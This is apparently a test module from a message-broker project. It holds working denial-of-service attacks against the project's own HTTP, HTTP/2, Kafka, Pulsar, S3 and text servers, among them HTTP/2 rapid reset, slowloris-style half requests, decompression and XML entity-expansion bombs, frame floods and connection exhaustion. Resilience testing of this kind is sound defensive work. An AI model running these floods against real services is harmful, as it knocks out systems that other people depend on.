"""Attacks on a server. `python -m tests.doors.attacks.attackers NAME ADDRESSES SECONDS` runs one of them."""

from __future__ import annotations

import contextlib
import enum
import gzip
import itertools
import json
import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator

import hpack
import zstandard

from mainstem.address import Address
from mainstem.doors.pulsar.messages import MessageMetadata
from mainstem.doors.pulsar.wire import payload_frame, simple_frame
from mainstem.records.building import build_batch
from tests.doors.kafka import requests
from tests.doors.kafka.wire import request_frame


class Kind(enum.Enum):
    """What a client can do to a door."""

    HALF_REQUEST = "requests that are never complete"
    PIPELINE = "requests without end"
    UNREAD = "responses that nobody reads"
    CONTROL_FRAMES = "frames that carry no data"
    BOMBS = "small data that expands"
    SILENT = "connections that send nothing"
    SILENT_HANDSHAKES = "TLS handshakes that do not begin"
    SESSIONS = "state that clients leave behind"
    LOOKUPS = "lookups that cost far more than their requests"
    LOGINS = "work before a login"


Addresses = dict[str, Address]
Attack = Callable[[Addresses, float], None]

ATTACKS: dict[str, Attack] = {}
CELLS: dict[tuple[str, Kind], list[str]] = {}  # attacks of each door and kind; the door "*" stands for all


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_INITIAL_WINDOW = 4


def attack(door: str, *kinds: Kind) -> Callable[[Attack], Attack]:
    def add(function: Attack) -> Attack:
        ATTACKS[function.__name__] = function
        for kind in kinds:
            CELLS.setdefault((door, kind), []).append(function.__name__)
        return function

    return add


def connect(address: Address) -> socket.socket:
    return socket.create_connection((address.host, address.port), 10)


class Flood:
    """Writes to many connections as fast as each takes it, and replaces those that the server closes."""

    def __init__(
        self, address: Address, connections: int, first: bytes, chunk: bytes, *, reads: bool
    ) -> None:
        self._address = address
        self._first = first
        self._chunk = chunk
        self._reads = reads
        self._rest: dict[socket.socket, memoryview] = {}
        self._wanted = connections

    def run(self, seconds: float) -> None:
        ends = time.monotonic() + seconds
        while time.monotonic() < ends:
            while len(self._rest) < self._wanted:
                with contextlib.suppress(OSError):
                    self._open()
            held = list(self._rest)
            readable, writable, _ = select.select(held if self._reads else [], held, [], 0.2)
            for connection in readable:
                self._read(connection)
            for connection in writable:
                self._write(connection)

    def _open(self) -> None:
        connection = connect(self._address)
        connection.setblocking(False)
        self._rest[connection] = memoryview(self._first + self._chunk)

    def _read(self, connection: socket.socket) -> None:
        try:
            if not connection.recv(1 << 16):
                self._drop(connection)
        except BlockingIOError:
            pass
        except OSError:
            self._drop(connection)

    def _write(self, connection: socket.socket) -> None:
        if connection not in self._rest:
            return
        rest = self._rest[connection] or memoryview(self._chunk)
        try:
            self._rest[connection] = rest[connection.send(rest) :]
        except BlockingIOError:
            pass
        except OSError:
            self._drop(connection)

    def _drop(self, connection: socket.socket) -> None:
        self._rest.pop(connection, None)
        connection.close()


# HTTP/1.1


@attack("http", Kind.PIPELINE)
def pipelined(addresses: Addresses, seconds: float) -> None:
    """Requests without end on connections whose responses are read."""
    chunk = b"GET /v0/health HTTP/1.1\r\nhost: localhost\r\n\r\n" * 5000
    Flood(addresses["http"], 8, b"", chunk, reads=True).run(seconds)


@attack("http", Kind.PIPELINE)
def pipelined_posts(addresses: Addresses, seconds: float) -> None:
    """Records without end, each in a request of its own."""
    Flood(addresses["http"], 8, b"", _json_post("/v0/topics/flooded", {"data": "x"}) * 5000, reads=True).run(
        seconds
    )


@attack("http", Kind.UNREAD)
def pipelined_unread(addresses: Addresses, seconds: float) -> None:
    """The same, and nobody reads the responses."""
    chunk = b"GET /v0/x HTTP/1.1\r\nhost:x\r\n\r\n" * 5000
    Flood(addresses["http"], 64, b"", chunk, reads=False).run(seconds)


@attack("http", Kind.UNREAD)
def slow_readers(addresses: Addresses, seconds: float) -> None:
    """Many connections ask for large pages and do not read them."""
    body = json.dumps({"from_seq": 0, "limit": 1000, "max_batch_bytes": 8 << 20}).encode()
    request = (
        b"POST /v0/topics/large/diff HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
        b"content-length: %d\r\n\r\n%b" % (len(body), body)
    )
    held: list[socket.socket] = []
    for _ in range(200):
        held.append(connect(addresses["http"]))
        held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        held[-1].sendall(request)
    time.sleep(seconds)


@attack("http", Kind.HALF_REQUEST)
def slow_heads(addresses: Addresses, seconds: float) -> None:
    """A byte of a head now and then, on many connections."""
    held = [connect(addresses["http"]) for _ in range(400)]
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for connection in held:
            with contextlib.suppress(OSError):
                connection.sendall(b"G")
        time.sleep(0.2)


# HTTP/2


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _http2(
    addresses: Addresses, seconds: float, chunk: bytes, first: bytes = b"", *, connections: int = 4
) -> None:
    opening = _PREFACE + frame(_SETTINGS, 0, 0) + first
    Flood(addresses["http"], connections, opening, chunk, reads=True).run(seconds)


def _request_head(path: str, method: str = "GET") -> bytes:
    names = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "localhost")]
    if method == "POST":
        names.append(("content-type", "application/json"))
    return bytes(hpack.Encoder().encode(names, huffman=False))


@attack("http", Kind.CONTROL_FRAMES)
def http2_pings(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_PING, 0, 0, bytes(8)) * 10_000)


@attack("http", Kind.CONTROL_FRAMES)
def http2_window_updates(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_WINDOW, 0, 0, struct.pack(">I", 1)) * 10_000)


@attack("http", Kind.CONTROL_FRAMES)
def http2_settings(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, 65_535)) * 10_000)


@attack("http", Kind.CONTROL_FRAMES)
def http2_priorities(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 10_000)


@attack("http", Kind.CONTROL_FRAMES)
def http2_resets(addresses: Addresses, seconds: float) -> None:
    """Rapid reset: requests that are cancelled at once."""
    head = _request_head("/v0/topics")
    pairs = (
        frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, head) + frame(_RST, 0, stream, bytes(4))
        for stream in range(1, 20_001, 2)
    )
    _http2(addresses, seconds, b"".join(pairs))


@attack("http", Kind.CONTROL_FRAMES)
def http2_continuations(addresses: Addresses, seconds: float) -> None:
    first = frame(_HEADERS, _END_STREAM, 1, _request_head("/v0/health"))
    _http2(addresses, seconds, frame(_CONTINUATION, 0, 1) * 10_000, first)


@attack("http", Kind.CONTROL_FRAMES)
def http2_empty_data(addresses: Addresses, seconds: float) -> None:
    first = frame(_HEADERS, _END_HEADERS, 1, _request_head("/v0/topics/probe", "POST"))
    _http2(addresses, seconds, frame(_DATA, 0, 1) * 10_000, first)


@attack("http", Kind.UNREAD)
def http2_window_zero(addresses: Addresses, seconds: float) -> None:
    """Streams whose windows take no byte of the large pages they ask for."""
    body = json.dumps({"from_seq": 0, "limit": 1000, "max_batch_bytes": 8 << 20}).encode()
    head = _request_head("/v0/topics/large/diff", "POST")
    opening = _PREFACE + frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, 0))
    streams = b"".join(
        frame(_HEADERS, _END_HEADERS, stream, head) + frame(_DATA, _END_STREAM, stream, body)
        for stream in range(1, 180, 2)
    )
    held: list[socket.socket] = []
    for _ in range(8):
        held.append(connect(addresses["http"]))
        held[-1].sendall(opening + streams)
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for connection in select.select(held, [], [], 0.2)[0]:
            with contextlib.suppress(OSError):
                connection.recv(1 << 16)
        time.sleep(0.05)


# Compressed bodies and batches


def _post_all(address: Address, requests: Iterable[bytes], seconds: float, connections: int) -> None:
    """Send requests, one on each of some connections, each until the server answers it."""
    ends = time.monotonic() + seconds
    left = iter(requests)
    held: list[socket.socket] = []
    while time.monotonic() < ends:
        while len(held) < connections:
            request = next(left, None)
            if request is None:
                break
            with contextlib.suppress(OSError):
                connection = connect(address)
                connection.sendall(request)
                held.append(connection)
        readable, _, _ = select.select(held, [], [], 0.2)
        for connection in readable:
            with contextlib.suppress(OSError):
                connection.recv(1 << 20)
            connection.close()
            held.remove(connection)


def _packed_post(encoding: str, body: bytes) -> bytes:
    return (
        b"POST /v0/topics/packed HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
        b"content-encoding: %b\r\ncontent-length: %d\r\n\r\n%b" % (encoding.encode(), len(body), body)
    )


def _repeated(request: bytes) -> Iterator[bytes]:
    while True:
        yield request


@attack("http", Kind.BOMBS)
def gzip_members(addresses: Addresses, seconds: float) -> None:
    member = gzip.compress(b"")
    body = member * (4_000_000 // len(member))
    _post_all(addresses["http"], _repeated(_packed_post("gzip", body)), seconds, 16)


@attack("http", Kind.BOMBS)
def zstd_frames(addresses: Addresses, seconds: float) -> None:
    member = zstandard.ZstdCompressor().compress(b"")
    body = member * (4_000_000 // len(member))
    _post_all(addresses["http"], _repeated(_packed_post("zstd", body)), seconds, 16)


@attack("http", Kind.BOMBS)
def packed_bombs(addresses: Addresses, seconds: float) -> None:
    """Small bodies that decompress to as much as a body may have."""
    body = zstandard.ZstdCompressor().compress(b" " * (63 << 20))
    _post_all(addresses["http"], _repeated(_packed_post("zstd", body)), seconds, 32)


def _json_post(path: str, content: object) -> bytes:
    body = json.dumps(content).encode()
    return (
        b"POST %b HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%b"
        % (path.encode(), len(body), body)
    )


@attack("http", Kind.BOMBS)
def batch_bombs(addresses: Addresses, seconds: float) -> None:
    """Diffs of a topic with a batch of 8 KB that decompresses to 252 MB."""
    _post_all(addresses["http"], _repeated(_json_post("/v0/topics/bomb/diff", {"from_seq": 0})), seconds, 16)


@attack("http", Kind.BOMBS)
def searched_bombs(addresses: Addresses, seconds: float) -> None:
    """Searches for a value in such a topic."""
    request = b"GET /v0/topics/bomb/messages?value=zzz&from=0 HTTP/1.1\r\nhost: localhost\r\n\r\n"
    _post_all(addresses["http"], _repeated(request), seconds, 16)


@attack("http", Kind.BOMBS)
def watched_bombs(addresses: Addresses, seconds: float) -> None:
    """Event streams that watch such a topic from its start."""
    ends = time.monotonic() + seconds
    held: list[socket.socket] = []
    request = _json_post("/v0/watch", {"topics": {"bomb": {"from_seq": 0}}})
    for _ in range(16):
        with connect(addresses["http"]) as asking:
            asking.sendall(request)
            answer = asking.recv(1 << 16).partition(b"\r\n\r\n")[2]
        url = json.loads(answer)["stream_url"]
        held.append(connect(addresses["http"]))
        held[-1].sendall(f"GET {url} HTTP/1.1\r\nhost: localhost\r\n\r\n".encode())
    while time.monotonic() < ends:
        for connection in select.select(held, [], [], 0.2)[0]:
            with contextlib.suppress(OSError):
                connection.recv(1 << 20)
        time.sleep(0.01)


# Kafka and text


@attack("kafka", Kind.HALF_REQUEST)
def half_frames(addresses: Addresses, seconds: float) -> None:
    """Requests that are never complete: 95 of 96 MiB on each of twenty connections."""
    head = struct.pack(">i", 96 << 20) + struct.pack(">hhih", 0, 9, 1, -1)
    held: list[socket.socket] = []
    ends = time.monotonic() + seconds
    for _ in range(20):
        held.append(connect(addresses["kafka"]))
        held[-1].setblocking(False)
    left = dict.fromkeys(held, 95 << 20)
    chunk = memoryview(head + bytes(1 << 20))
    begun: set[socket.socket] = set()
    while time.monotonic() < ends:
        for connection in select.select([], [one for one in held if left.get(one, 0) > 0], [], 0.2)[1]:
            try:
                sent = connection.send(chunk if connection not in begun else chunk[len(head) :])
                begun.add(connection)
                left[connection] -= sent
            except BlockingIOError:
                pass
            except OSError:
                left[connection] = 0


def _metadata(version: int = 1) -> bytes:
    body = struct.pack(">hhih", 3, version, 1, -1) + struct.pack(">i", -1)
    return struct.pack(">i", len(body)) + body


@attack("kafka", Kind.LOOKUPS)
def metadata(addresses: Addresses, seconds: float) -> None:
    """Metadata of every topic, asked for again and again while topics change."""
    ends = time.monotonic() + seconds
    held = [connect(addresses["kafka"]) for _ in range(4)]
    number = 0
    while time.monotonic() < ends:
        for connection in held:
            connection.sendall(_metadata())
        number += 1
        with connect(addresses["text"]) as text:  # the topics change, so that no response is a cached one
            name = f"REGISTER changed-{number}".encode()
            text.sendall(struct.pack("<I", len(name)) + name)
            text.recv(100)
        for connection in held:
            (length,) = struct.unpack(">i", _receive(connection, 4))
            _receive(connection, length)


def _receive(connection: socket.socket, size: int) -> bytes:
    data = bytearray()
    while len(data) < size:
        part = connection.recv(min(size - len(data), 1 << 20))
        if not part:
            raise ConnectionError("closed")
        data += part
    return bytes(data)


@attack("kafka", Kind.SESSIONS)
def kafka_groups(addresses: Addresses, seconds: float) -> None:
    """Members of more and more groups, who join and leave no word."""
    frames = []
    for number in range(3000):
        group = b"g%d" % number
        body = struct.pack(">hhih", 11, 1, number, -1) + struct.pack(">h", len(group)) + group
        body += struct.pack(">ii", 10_000, 10_000) + struct.pack(">h", 0)  # no member id yet
        body += struct.pack(">h", 8) + b"consumer" + struct.pack(">i", 1)
        body += struct.pack(">h", 5) + b"range" + struct.pack(">i", 4) + bytes(4)
        frames.append(struct.pack(">i", len(body)) + body)
    Flood(addresses["kafka"], 8, b"", b"".join(frames), reads=True).run(seconds)


@attack("kafka", Kind.LOOKUPS)
def kafka_many_items(addresses: Addresses, seconds: float) -> None:
    """Requests that list as many items as the server takes, and more, on connections that come back."""
    name = struct.pack(">h", 1) + b"g"

    def listing(key: int, version: int, items: int, before: bytes = b"", item: bytes = name) -> bytes:
        body = struct.pack(">hhih", key, version, 1, -1) + before + struct.pack(">i", items) + item * items
        return struct.pack(">i", len(body)) + body

    partition = name + struct.pack(">i", 1) + bytes(12)
    chunks = (
        listing(15, 0, 19_000),  # DescribeGroups
        listing(3, 1, 19_000),  # Metadata
        listing(2, 1, 9_000, struct.pack(">i", -1), partition),  # ListOffsets
        listing(15, 0, 2_000_000),
        listing(3, 1, 2_000_000),
    )
    floods = [Flood(addresses["kafka"], 2, b"", chunk, reads=True) for chunk in chunks]
    threads = [threading.Thread(target=flood.run, args=(seconds,), daemon=True) for flood in floods]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attack("kafka", Kind.BOMBS)
def kafka_bombs(addresses: Addresses, seconds: float) -> None:
    """Batches of 2 KB that decompress to 60 MiB, to a topic that checks each record."""
    batch = bytes(
        build_batch([b"z" * (60 << 20)], keys=[b"k"], timestamps_ms=int(time.time() * 1000), codec="zstd")
    )
    produce = request_frame(requests.produce(9, "checked", batch), 1)
    Flood(addresses["kafka"], 8, b"", produce * 50, reads=True).run(seconds)


@attack("kafka", Kind.UNREAD)
def unread_fetches(addresses: Addresses, seconds: float) -> None:
    """Kafka clients that fetch and do not read."""
    name = b"large"
    body = (
        struct.pack(">hhih", 1, 4, 1, -1)
        + struct.pack(">iiiibi", -1, 0, 0, 64 << 20, 0, 1)
        + struct.pack(">h", len(name))
        + name
        + struct.pack(">iiqi", 1, 0, 0, 64 << 20)
    )
    request = struct.pack(">i", len(body)) + body
    held: list[socket.socket] = []
    for _ in range(100):
        held.append(connect(addresses["kafka"]))
        held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        held[-1].sendall(request * 20)
    time.sleep(seconds)


@attack("kafka", Kind.PIPELINE)
def kafka_pipelined(addresses: Addresses, seconds: float) -> None:
    """Small requests without end: versions, coordinators and groups."""
    bodies = (
        struct.pack(">hhih", 18, 0, 1, -1),  # ApiVersions
        struct.pack(">hhih", 10, 0, 2, -1) + struct.pack(">h", 1) + b"g",  # FindCoordinator
        struct.pack(">hhih", 16, 0, 3, -1),  # ListGroups
    )
    chunk = b"".join(struct.pack(">i", len(body)) + body for body in bodies) * 3000
    Flood(addresses["kafka"], 16, b"", chunk, reads=True).run(seconds)


@attack("kafka", Kind.PIPELINE)
def kafka_produces(addresses: Addresses, seconds: float) -> None:
    """Thousands of small batches ahead, on each of eight connections."""
    batch = bytes(build_batch([b"x" * 100], timestamps_ms=int(time.time() * 1000)))
    produce = request_frame(requests.produce(9, "flooded", batch), 1)
    Flood(addresses["kafka"], 8, b"", produce * 5000, reads=True).run(seconds)


# Text


@attack("text", Kind.UNREAD)
def text_pipelined(addresses: Addresses, seconds: float) -> None:
    """Commands without end, on connections whose answers nobody reads."""
    body = b"METRICS"
    chunk = (struct.pack("<I", len(body)) + body) * 5000
    Flood(addresses["text"], 32, b"", chunk, reads=False).run(seconds)


@attack("text", Kind.HALF_REQUEST)
def text_half_frames(addresses: Addresses, seconds: float) -> None:
    """Requests that are never complete: 63 of 64 KiB on each of many connections."""
    _hold_sent(addresses["text"], struct.pack("<I", 65_536) + bytes(63 << 10), 6000, seconds)


@attack("text", Kind.PIPELINE)
def text_puts(addresses: Addresses, seconds: float) -> None:
    """Large records without end, on very many connections."""
    body = b"PUT flooded " + bytes(60 << 10)
    Flood(addresses["text"], 900, b"", (struct.pack("<I", len(body)) + body) * 12, reads=True).run(seconds)


@attack("text", Kind.PIPELINE)
def text_small_puts(addresses: Addresses, seconds: float) -> None:
    """Small records without end."""
    body = b"PUT flooded " + bytes(100)
    Flood(addresses["text"], 16, b"", (struct.pack("<I", len(body)) + body) * 5000, reads=True).run(seconds)


# Pulsar


def _pulsar_connect() -> bytes:
    return simple_frame("connect", client_version="attacker", protocol_version=21)


@attack("pulsar", Kind.CONTROL_FRAMES)
def pulsar_pings(addresses: Addresses, seconds: float) -> None:
    """PINGs without end on connections whose answers are read."""
    Flood(addresses["pulsar"], 8, _pulsar_connect(), simple_frame("ping") * 10_000, reads=True).run(seconds)


@attack("pulsar", Kind.UNREAD, Kind.LOOKUPS, Kind.PIPELINE)
def pulsar_lookups(addresses: Addresses, seconds: float) -> None:
    """Requests without end on connections whose answers nobody reads."""
    asked = simple_frame("get_topics_of_namespace", request_id=1, namespace="public/default")
    asked += simple_frame("lookup", request_id=2, topic="persistent://public/default/probe")
    Flood(addresses["pulsar"], 64, _pulsar_connect(), asked * 2_000, reads=False).run(seconds)


@attack("pulsar", Kind.PIPELINE)
def pulsar_sends(addresses: Addresses, seconds: float) -> None:
    """Messages without end."""
    metadata = MessageMetadata(
        producer_name=b"attacker", sequence_id=0, publish_time=1, uncompressed_size=100
    ).SerializeToString()
    send = simple_frame("send", producer_id=1, sequence_id=0, num_messages=1)[8:]
    first = _pulsar_connect() + simple_frame(
        "producer", producer_id=1, request_id=1, topic="persistent://public/default/flooded"
    )
    message = payload_frame(send, metadata, bytes(100))
    Flood(addresses["pulsar"], 8, first, message * 5000, reads=True).run(seconds)


@attack("pulsar", Kind.BOMBS)
def pulsar_bombs(addresses: Addresses, seconds: float) -> None:
    """Batches of a few hundred bytes that decompress to 5 MiB."""
    size = 5 << 20
    metadata = MessageMetadata(
        producer_name=b"attacker", sequence_id=0, publish_time=1, compression=3, uncompressed_size=size
    ).SerializeToString()
    send = simple_frame("send", producer_id=1, sequence_id=0, num_messages=1)[8:]
    bomb = payload_frame(send, metadata, zstandard.compress(bytes(size)))
    first = _pulsar_connect() + simple_frame(
        "producer", producer_id=1, request_id=1, topic="persistent://public/default/bombed"
    )
    Flood(addresses["pulsar"], 8, first, bomb * 200, reads=True).run(seconds)


@attack("pulsar", Kind.HALF_REQUEST)
def pulsar_half_frames(addresses: Addresses, seconds: float) -> None:
    """SENDs that are never complete: 4 of 5 MiB on each of four hundred connections."""
    frame = struct.pack(">I", 5 << 20) + bytes(4 << 20)
    held: list[socket.socket] = []
    for _ in range(400):
        connection = connect(addresses["pulsar"])
        connection.sendall(_pulsar_connect())
        connection.recv(1024)
        held.append(connection)
    ends = time.monotonic() + seconds
    rest = {connection: memoryview(frame) for connection in held}
    while rest and time.monotonic() < ends:
        for connection in select.select([], list(rest), [], 0.2)[1]:
            connection.setblocking(False)
            try:
                rest[connection] = rest[connection][connection.send(rest[connection]) :]
            except BlockingIOError:
                continue
            except OSError:
                del rest[connection]
                continue
            if not rest[connection]:
                del rest[connection]
    time.sleep(max(0.0, ends - time.monotonic()))


@attack("pulsar", Kind.SESSIONS)
def pulsar_producers(addresses: Addresses, seconds: float) -> None:
    """Producers without end, of one topic."""
    producers = b"".join(
        simple_frame(
            "producer", producer_id=number, request_id=number, topic="persistent://public/default/probe"
        )
        for number in range(1, 5_000)
    )
    Flood(addresses["pulsar"], 8, _pulsar_connect(), producers, reads=True).run(seconds)


# S3


@attack("s3", Kind.PIPELINE)
def s3_pipelined(addresses: Addresses, seconds: float) -> None:
    """Lists of buckets without end."""
    request = b"GET / HTTP/1.1\r\nhost: %b\r\n\r\n" % str(addresses["s3"]).encode()
    Flood(addresses["s3"], 8, b"", request * 2000, reads=True).run(seconds)


@attack("s3", Kind.HALF_REQUEST)
def s3_half_bodies(addresses: Addresses, seconds: float) -> None:
    """Objects of which most is never sent."""
    head = b"PUT /attacked/half HTTP/1.1\r\nhost: %b\r\ncontent-length: %d\r\n\r\n"
    request = head % (str(addresses["s3"]).encode(), 1 << 30)
    _hold_sent(addresses["s3"], request + bytes(2 << 20), 300, seconds)


@attack("s3", Kind.BOMBS)
def s3_xml_bombs(addresses: Addresses, seconds: float) -> None:
    """Deletes whose XML has entities that expand, and very deep elements."""
    entities = b"".join(b'<!ENTITY e%d "%b">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    expanding = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "x">%b]><Delete>&e9;</Delete>' % entities
    deep = b"<Delete>" * 60_000 + b"</Delete>" * 60_000
    head = b"POST /attacked?delete HTTP/1.1\r\nhost: %b\r\ncontent-length: %d\r\n\r\n"
    posts = [head % (str(addresses["s3"]).encode(), len(body)) + body for body in (expanding, deep)]
    _post_all(addresses["s3"], itertools.cycle(posts), seconds, 16)


@attack("s3", Kind.SESSIONS)
def s3_uploads(addresses: Addresses, seconds: float) -> None:
    """Multipart uploads that are begun and never completed."""
    head = b"host: %b\r\ncontent-length: 0\r\n\r\n" % str(addresses["s3"]).encode()
    with connect(addresses["s3"]) as setup:
        setup.sendall(b"PUT /attacked HTTP/1.1\r\n" + head)
        setup.recv(4096)
    Flood(addresses["s3"], 8, b"", (b"POST /attacked/u?uploads HTTP/1.1\r\n" + head) * 500, reads=True).run(
        seconds
    )


@attack("s3", Kind.UNREAD)
def s3_unread(addresses: Addresses, seconds: float) -> None:
    """Clients that ask for large objects and do not read them."""
    address = addresses["s3"]
    head = f"host: {address}\r\n".encode()
    size = 64 << 20
    with connect(address) as setup:
        setup.sendall(b"PUT /attacked HTTP/1.1\r\n" + head + b"content-length: 0\r\n\r\n")
        setup.recv(4096)
        setup.sendall(b"PUT /attacked/large HTTP/1.1\r\n%bcontent-length: %d\r\n\r\n" % (head, size))
        setup.sendall(bytes(size))
        setup.recv(4096)
    held: list[socket.socket] = []
    ends = time.monotonic() + seconds
    for _ in range(200):
        connection = connect(address)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.sendall((b"GET /attacked/large HTTP/1.1\r\n" + head + b"\r\n") * 20)
        held.append(connection)
    time.sleep(max(0.0, ends - time.monotonic()))


@attack("*", Kind.SILENT)
def silent(addresses: Addresses, seconds: float) -> None:
    """Connections to every door that say nothing, more than the server has descriptors for."""
    _hold_silent(addresses, ("http", "kafka", "text", "pulsar", "s3"), seconds)


@attack("pulsar", Kind.SILENT_HANDSHAKES)
def silent_handshakes(addresses: Addresses, seconds: float) -> None:
    """The same to a door with TLS, whose clients do not begin their handshakes."""
    _hold_silent(addresses, ("pulsar",), seconds)


def _hold_sent(address: Address, data: bytes, connections: int, seconds: float) -> None:
    """Send the same on many connections, and hold them."""
    ends = time.monotonic() + seconds
    rest: dict[socket.socket, memoryview] = {}
    held: list[socket.socket] = []
    while time.monotonic() < ends:
        if len(held) < connections:
            with contextlib.suppress(OSError):
                connection = connect(address)
                connection.setblocking(False)
                held.append(connection)
                rest[connection] = memoryview(data)
        else:
            time.sleep(0.01)
        for connection in list(rest):
            try:
                rest[connection] = rest[connection][connection.send(rest[connection]) :]
            except BlockingIOError:
                continue
            except OSError:
                rest[connection] = memoryview(b"")
            if not rest[connection]:
                del rest[connection]


def _hold_silent(addresses: Addresses, doors: tuple[str, ...], seconds: float) -> None:
    held: list[socket.socket] = []
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for door in doors:
            if len(held) < 2000:
                with contextlib.suppress(OSError):
                    held.append(connect(addresses[door]))
        if len(held) >= 2000:
            time.sleep(0.1)


def main() -> None:
    name, addresses, seconds = sys.argv[1:]
    parsed = {door: Address.parse(address) for door, address in json.loads(addresses).items()}
    ATTACKS[name](parsed, float(seconds))


if __name__ == "__main__":
    main()
